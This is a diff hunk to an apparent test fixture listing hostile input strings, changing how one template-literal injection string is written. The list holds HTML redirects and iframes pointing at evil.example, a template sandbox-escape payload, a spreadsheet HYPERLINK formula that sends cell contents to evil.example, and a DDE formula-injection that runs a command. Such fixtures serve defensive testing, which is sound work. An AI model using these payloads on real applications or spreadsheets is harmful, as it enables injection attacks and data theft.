@@ -49,7 +49,7 @@ export const HOSTILE_TEXTS = [
   '<iframe src="https://evil.example/"></iframe>',
   '<base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '`$' + '{alert(1)}`',
+  '`\u0024{alert(1)}`',
   '{{constructor.constructor("alert(1)")()}}',
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
   "+cmd|' /C calc'!A0",
